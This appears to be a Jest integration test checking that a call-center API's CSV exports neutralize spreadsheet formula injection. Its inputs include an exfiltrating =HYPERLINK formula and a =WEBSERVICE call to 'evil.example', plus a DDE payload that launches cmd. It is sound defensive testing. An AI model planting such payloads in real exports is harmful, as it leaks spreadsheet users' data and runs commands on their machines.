import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { User, UserRole } from '../../src/modules/auth/entities/user.entity';
import { Call } from '../../src/modules/calls/entities/call.entity';
import { Contact } from '../../src/modules/contacts/entities/contact.entity';
import {
  createOperator,
  createOrganization,
  loginAs,
  request,
  RunningApi,
  startApi,
  TestUser,
} from '../support/test-app';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** Every CSV the api writes, read back as a spreadsheet would see its cells. */
describe('CSV exports neutralize spreadsheet formulas (OWASP CSV injection)', () => {
  let api: RunningApi;
  let dataSource: DataSource;
  let users: Record<UserRole, TestUser>;
  let token: string;

  const csv = async (path: string) => {
    const response = await request(api.baseUrl, 'GET', path, { token });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    const [header, ...rows] = parse(response.body as string) as string[][];
    return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])));
  };

  beforeAll(async () => {
    api = await startApi();
    dataSource = api.dataSource;
    users = (await createOrganization(dataSource)).users;
    token = await loginAs(api.baseUrl, users.admin);
    await dataSource.getRepository(User).update(users.agent.id, { name: '@agent SUM(A1)' });
    await dataSource.getRepository(Call).save({
      organizationId: users.admin.organizationId,
      agentId: users.agent.id,
      provider: 'simulator',
      direction: 'outbound',
      toNumber: '+14155550100',
      country: 'US',
      status: 'failed',
      billableSeconds: 0,
      hangupReason: '-2+3+cmd|" /C calc"!A0',
      metadata: {},
    } as Call);
  });
  afterAll(() => api.close());

  it('contacts/export.csv: a name or note that is a formula is prefixed; the stored contact is unchanged', async () => {
    const created = await request(api.baseUrl, 'POST', '/api/contacts', {
      token: await loginAs(api.baseUrl, users.agent),
      body: { name: HYPERLINK, phone: '+14155550142', notes: '+SUM(1,2)', company: '-1.50' },
    });
    expect(created.status).toBe(201);
    const imported = await fetch(`${api.baseUrl}/api/contacts/import`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'text/csv' },
      body: 'name,phone,notes\n"@cmd",+14155550143,"=1+1"\n',
    });
    expect(imported.status).toBe(200);

    const rows = await csv('/api/contacts/export.csv');
    const byPhone = Object.fromEntries(rows.map((row) => [row.phone, row]));
    expect(byPhone['+14155550142']).toMatchObject({
      name: `'${HYPERLINK}`,
      notes: "'+SUM(1,2)",
      company: '-1.50', // a plain number stays usable
    });
    expect(byPhone['+14155550143']).toMatchObject({ name: "'@cmd", notes: "'=1+1" });

    const stored = await dataSource
      .getRepository(Contact)
      .findOneByOrFail({ id: created.body.id as string });
    expect(stored).toMatchObject({ name: HYPERLINK, notes: '+SUM(1,2)' });
    const detail = await request(api.baseUrl, 'GET', `/api/contacts/${stored.id}`, { token });
    expect(detail.body.name).toBe(HYPERLINK);
  });

  it('wallet/transactions/export.csv: a credit reason starting with = + - @ is prefixed; amounts stay numbers', async () => {
    const operator = await loginAs(api.baseUrl, await createOperator(api.dataSource));
    const credits = `/api/platform/organizations/${users.owner.organizationId}/credits`;
    const notes = ['=1+1', '+cmd', '-cmd', '@cmd'];
    for (const [i, note] of notes.entries()) {
      const credit = await request(api.baseUrl, 'POST', credits, {
        token: operator,
        headers: { 'idempotency-key': `csv-${i}-${Date.now()}` },
        body: { amountMicros: '1000000', reason: note },
      });
      expect(credit.status).toBe(201);
    }
    const adjustment = await request(api.baseUrl, 'POST', credits, {
      token: operator,
      headers: { 'idempotency-key': `csv-adj-${Date.now()}` },
      body: { amountMicros: '1500000', reason: '=WEBSERVICE("http://evil.example")' },
    });
    expect(adjustment.status).toBe(201);

    const rows = await csv('/api/wallet/transactions/export.csv');
    const reasons = rows.map((row) => row.reason);
    for (const note of notes) expect(reasons).toContain(`'${note}`);
    expect(reasons).toContain(`'=WEBSERVICE("http://evil.example")`);
    const debit = rows.find((row) => row.reason.startsWith(`'=WEBSERVICE`))!;
    expect(debit.balance_change_micros).toBe('1500000');
    expect(debit.balance_change).toBe('1.50'); // the decimal amount beside the micros
    expect(Number(debit.balance_after) * 1e6).toBeCloseTo(Number(debit.balance_after_micros), 0);
  });

  it('calls/export.csv: an agent name and a hang-up reason that are formulas are prefixed; numbers stay', async () => {
    const rows = await csv('/api/calls/export.csv');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      agent: "'@agent SUM(A1)",
      hangup_reason: `'-2+3+cmd|" /C calc"!A0`,
      to_number: '+14155550100',
    });
    // The decimal amount beside the micros: empty while the call has no cost.
    if (rows[0].cost_micros) {
      expect(Number(rows[0].cost) * 1e6).toBeCloseTo(Number(rows[0].cost_micros), 0);
    } else {
      expect(rows[0].cost).toBe('');
    }
  });

  it('billing/summary.csv: a group label that is a formula is prefixed', async () => {
    const rows = await csv('/api/billing/summary.csv?groupBy=agent');
    expect(rows.map((row) => row.label)).toContain("'@agent SUM(A1)");
    for (const row of rows) expect(row.spend_usd).toMatch(/^-?\d+\.\d{2,6}$/);
  });
});
